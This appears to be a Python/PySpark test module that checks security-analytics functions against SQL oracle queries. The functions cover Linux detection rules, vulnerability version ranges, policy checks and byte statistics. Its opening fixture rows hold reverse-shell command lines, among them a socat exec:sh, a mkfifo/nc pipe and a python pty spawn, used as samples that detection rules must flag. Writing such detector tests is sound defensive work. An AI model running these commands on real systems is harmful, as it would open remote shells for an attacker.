    (dict(mechanism="ld_preload", item="/l.so"), "LIN-002b"), (dict(kind="network_socket", process="bash", state="Established", remote_ip="9.9.9.9", remote_port="1"), "LIN-003"), (dict(kind="network_socket", process="bash", state="Established", remote_ip="127.0.0.1", remote_port="1"), None),
    (dict(process="python3", command="python3 -c 'import socket,pty; pty.spawn(1)'"), "LIN-001a"), (dict(process="socat", command="socat tcp:h:9 exec:sh"), "LIN-001a"), (dict(process="bash", command="mkfifo /run/f; sh </run/f | nc host 9 >/run/f"), "LIN-001a"),
)


def _observed(t):
    at = F.col("event_id") % len(OBSERVED)
    pick = lambda name, kind: F.element_at(F.array(*(F.lit(seen.get(name)).cast("string") for seen, _ in OBSERVED)), at.cast("int") + 1).cast(kind).alias(name)
    return t("events").select("event_id", F.col("user_id").cast("string").alias("host"), *(pick(name, kind) for name, kind in detections.FIELDS.items() if name != "host"))


FIRES = " ".join(f"WHEN {k} THEN '{rule}'" for k, (_, rule) in enumerate(OBSERVED) if rule)


@query(f"SELECT * FROM (SELECT event_id, CASE event_id % {len(OBSERVED)} {FIRES} END AS rule FROM events) WHERE rule IS NOT NULL")
def detection_rules(t):
    return detections.detect(_observed(t)).select("event_id", "rule")


@query(f"""SELECT host, rule, count(*) AS n, max(CASE WHEN k IN ({', '.join(str(k) for k, (seen, rule) in enumerate(OBSERVED) if rule == 'LIN-001c' and seen['exe'].startswith('/usr'))}) THEN 45.0 WHEN rule = 'LIN-001c' THEN 80.0 ELSE -1 END) AS risk
FROM (SELECT CAST(user_id AS VARCHAR) AS host, event_id % {len(OBSERVED)} AS k, CASE event_id % {len(OBSERVED)} {FIRES} END AS rule FROM events) WHERE rule IS NOT NULL GROUP BY 1, 2""")
def detection_facts(t):
    found = detections.detect(_observed(t))
    return found.groupBy("host", "rule").agg(F.count("*").alias("n"), F.max(F.when(F.col("rule") == "LIN-001c", F.col("risk")).otherwise(-1.0)).alias("risk"))


VERSIONS_SQL = "SELECT p_partkey, p_brand AS name, p_size || '.' || (p_partkey % 12) AS version, p_size * 100 + p_partkey % 12 AS n FROM part"


def _packages(t):
    return t("part").select("p_partkey", F.col("p_brand").alias("name"), F.concat_ws(".", F.col("p_size").cast("string"), (F.col("p_partkey") % 12).cast("string")).alias("version"))


def _ranges(t):
    brands = t("part").select(F.col("p_brand").alias("name")).distinct()
    one = lambda i, low, fix, last: F.struct(F.lit(i).alias("id"), F.lit(low).cast("string").alias("introduced"), F.lit(fix).cast("string").alias("fixed"), F.lit(last).cast("string").alias("last_affected"))
    return brands.select("name", F.inline(F.array(one("A", None, "9.10", None), one("B", "9.9", "30.2", None), one("C", "40", None, "45.3"))))


RANGES_SQL = "(VALUES ('A', 0, 910, 999999, '9.10'), ('B', 909, 3002, 999999, '30.2'), ('C', 4000, 999999, 4503, NULL)) r(id, lo, hi, upto, fixed)"


@query(f"SELECT p_partkey, id FROM ({VERSIONS_SQL}) JOIN {RANGES_SQL} ON n >= lo AND n < hi AND n <= upto")
def version_range_match(t):
    return vulnerabilities.hits(_packages(t), _ranges(t), "PyPI").select("p_partkey", "id")


@query(f"""
WITH f AS (SELECT p_partkey, count(*) AS n, count(fixed) AS m, max(hi) AS hi FROM ({VERSIONS_SQL}) JOIN {RANGES_SQL} ON n >= lo AND n < hi AND n <= upto GROUP BY 1)
SELECT p_partkey, CASE WHEN n = m THEN CASE hi WHEN 910 THEN '9.10' ELSE '30.2' END END AS target FROM f""")
def upgrade_targets(t):
    found = vulnerabilities.hits(_packages(t), _ranges(t), "Debian:12")
    return vulnerabilities.upgrade_target(vulnerabilities.first_fix(found, ["p_partkey", "id"], "Debian"), ["p_partkey"], "Debian")


def _places(key):
    @query(f"SELECT p_partkey, CAST(rank() OVER (PARTITION BY name ORDER BY n) AS INT) AS place FROM ({VERSIONS_SQL})")
    def order(t):
        from pyspark.sql.window import Window

        return _packages(t).select("p_partkey", F.rank().over(Window.partitionBy("name").orderBy(key(F.col("version")))).alias("place"))

    return order


for _name, _key in (("debian", V.debian_key), ("rpm", V.rpm_key), ("python", V.python_key)):
    _places(_key)
    QUERIES[f"{_name}_order"], ORACLE_SQL[f"{_name}_order"] = QUERIES.pop("order"), ORACLE_SQL.pop("order")


# --- policies and bytes

STATES = ("new", "in_progress", "blocked", "solved", "archived")
KINDS = ("view", "click", "error", "purchase", "signup")
FOLLOWS_SQL = " OR ".join(f"(a = '{a}' AND b IN ({', '.join(repr(b) for b in nexts)}))" for a, nexts in policy.CHALLENGE.items())


@query(f"""
WITH s AS (SELECT user_id, ts, event_id, CASE event_type {" ".join(f"WHEN '{k}' THEN '{s}'" for k, s in zip(KINDS, STATES, strict=True))} END AS b FROM events),
p AS (SELECT event_id, b, lag(b) OVER (PARTITION BY user_id ORDER BY ts, event_id) AS a FROM s)
SELECT event_id, a AS before, b AS after FROM p WHERE a IS NOT NULL AND b IS NOT NULL AND NOT (a = b OR {FOLLOWS_SQL})""")
def illegal_transitions(t):
    from pyspark.sql.window import Window

    state = F.lit(None).cast("string")
    for kind, name in zip(KINDS, STATES, strict=True):
        state = F.when(F.col("event_type") == kind, name).otherwise(state)
    rows = t("events").select("user_id", "ts", "event_id", state.alias("after"))
    rows = rows.withColumn("before", F.lag("after").over(Window.partitionBy("user_id").orderBy("ts", "event_id")))
    return rows.where(~policy.may_follow(policy.CHALLENGE, F.col("before"), F.col("after"))).select("event_id", "before", "after")


@query("""SELECT o_orderkey, date_sub('day', o_orderdate, TIMESTAMP '1998-12-31 12:00:00') > CASE o_orderkey % 4 WHEN 0 THEN 2 WHEN 1 THEN 7 WHEN 2 THEN 14 ELSE 30 END AS stale FROM orders""")
def feed_freshness(t):
    kind = F.element_at(F.array(*map(F.lit, policy.FRESH_DAYS)), (F.col("o_orderkey") % 4).cast("int") + 1)
    return t("orders").select("o_orderkey", policy.stale(kind, F.col("o_orderdate"), F.lit("1998-12-31 12:00:00").cast(t("orders").schema["o_orderdate"].dataType)).alias("stale"))


@query("""SELECT p_partkey, p_partkey % 3 <> 0 AND (p_partkey % 2 = 0 OR contains(p_name, ' ')) AS risk FROM part""")
def unquoted_service_paths(t):
    folder = F.when(F.col("p_partkey") % 2 == 0, r"C:\My Files\\").otherwise(r"C:\bin\\")
    path = F.concat(F.when(F.col("p_partkey") % 3 == 0, '"').otherwise(" "), folder, F.col("p_name"), F.lit(".EXE --run all"))
    return t("part").select("p_partkey", policy.open_to_hijack(path).alias("risk"))


@query("""SELECT c_custkey, CASE c_custkey % 5 WHEN 0 THEN true WHEN 1 THEN c_nationkey % 2 = 0 WHEN 2 THEN c_nationkey % 2 = 0 OR c_nationkey % 4 = 1 WHEN 3 THEN c_nationkey % 2 = 0 ELSE c_nationkey % 4 = 3 END AS allowed FROM customer""")
def role_permissions(t):
    role = F.element_at(F.array(*map(F.lit, ("Owner", "guest", "analyst", "Responder", "CTF_Participant"))), (F.col("c_custkey") % 5).cast("int") + 1)
    permission = F.element_at(F.array(*map(F.lit, ("CaseRead", "EvidenceAdd", "EvidenceRead", "CtfIsolatedOnly"))), F.col("c_nationkey") % 4 + 1)
    return t("customer").select("c_custkey", policy.may(role, permission).alias("allowed"))


@query("""SELECT DISTINCT l_partkey AS case_id, l_suppkey AS user_id FROM lineitem WHERE l_suppkey % 10 = 0 OR EXISTS (SELECT 1 FROM lineitem m WHERE m.l_returnflag = 'R' AND m.l_partkey = lineitem.l_partkey AND m.l_suppkey = lineitem.l_suppkey)
  OR EXISTS (SELECT 1 FROM part JOIN supplier ON s_nationkey = p_size % 25 WHERE p_partkey = l_partkey AND s_suppkey = l_suppkey)""")
def case_access(t):
    pairs = t("lineitem").select(F.col("l_partkey").alias("case_id"), F.col("l_suppkey").alias("user_id"), "l_returnflag")
    users = t("supplier").select(F.col("s_suppkey").alias("user_id"), F.when(F.col("s_suppkey") % 10 == 0, "Admin").otherwise("Viewer").alias("role"))
    channels = t("part").select(F.col("p_partkey").alias("case_id"), (F.col("p_size") % 25).alias("team_id"))
    teams = t("supplier").select(F.col("s_suppkey").alias("user_id"), F.col("s_nationkey").alias("team_id"))
    return policy.case_access(pairs, users, pairs.where("l_returnflag = 'R'").select("case_id", "user_id"), channels, teams)


@query("""SELECT *, tpr - fpr AS score FROM (SELECT *, CASE WHEN tp + fn = 0 THEN 0.0 ELSE tp / (tp + fn) END AS tpr, CASE WHEN fp + tn = 0 THEN 0.0 ELSE fp / (fp + tn) END AS fpr FROM
  (SELECT p_brand, count(*) FILTER (r AND f) AS tp, count(*) FILTER (r AND NOT f) AS fn, count(*) FILTER (NOT r AND f) AS fp, count(*) FILTER (NOT r AND NOT f) AS tn FROM (SELECT p_brand, p_size > 20 AS r, p_retailprice > 1200 AS f FROM part) GROUP BY 1))""")
def detection_rates(t):
    return policy.rates(t("part").select("p_brand", (F.col("p_size") > 20).alias("real"), (F.col("p_retailprice") > 1200).alias("found")), "p_brand", "real", "found")


@query("SELECT page_id, url_encode(url) AS escaped, url AS back FROM pages")
def url_escapes(t):
    return t("pages").select("page_id", B.escape(F.col("url")).alias("escaped"), B.unescape(B.escape(F.col("url"))).alias("back"))


@query("SELECT p_partkey, CASE WHEN p_partkey % 3 < 2 THEN 'KB' || p_partkey END AS kb FROM part")
def update_numbers(t):
    at = F.col("p_partkey")
    return t("part").select("p_partkey", B.update_number(F.concat(F.element_at(F.array(F.lit(" kb"), F.lit(""), F.lit("Q")), (at % 3).cast("int") + 1), at.cast("string"))).alias("kb"))


@query("SELECT s_suppkey, upper(array_to_string(list_transform(range(1, len(s_name) + 1), lambda i: lpad(to_hex(xor(ord(s_name[i]), CASE i % 2 WHEN 1 THEN 75 ELSE 200 END)), 2, '0')), '')) AS hex FROM supplier")
def repeating_xor(t):
    return t("supplier").select("s_suppkey", F.hex(B.exclusive_or(F.col("s_name").cast("binary"), bytes((75, 200)))).alias("hex"))


HEX_SQL = "SELECT doc_id, block, unnest(regexp_extract_all(substr(h, 512 * block + 1, 512), '..')) AS c FROM (SELECT doc_id, h, unnest(range(0, (len(h) + 511) // 512)) AS block FROM (SELECT doc_id, hex(encode(text)) AS h FROM documents WHERE text <> ''))"


@query(f"SELECT doc_id, CAST(block AS INT) AS block, round(log2(sum(n)) - sum(n * log2(n)) / sum(n), 6) AS entropy FROM (SELECT doc_id, block, c, count(*) AS n FROM ({HEX_SQL}) GROUP BY ALL) GROUP BY 1, 2")
def entropy_map(t):
    return B.block_entropy(t("documents"), "doc_id", F.col("text").cast("binary"))


@query(f"""SELECT doc_id, CAST(sum(n) AS BIGINT) AS n_bytes, count(*) AS kinds, max(n) AS most, array_to_string(list(lower(c) || ':' || n ORDER BY n DESC, c)[1:5], ',') AS top, round(sum(n * n) * 256 / sum(n) - sum(n), 4) AS chi_square FROM (SELECT doc_id, c, count(*) AS n FROM ({HEX_SQL}) GROUP BY ALL) GROUP BY 1""")
def byte_statistics(t):
    return B.byte_statistics(t("documents"), "doc_id", F.col("text").cast("binary"))
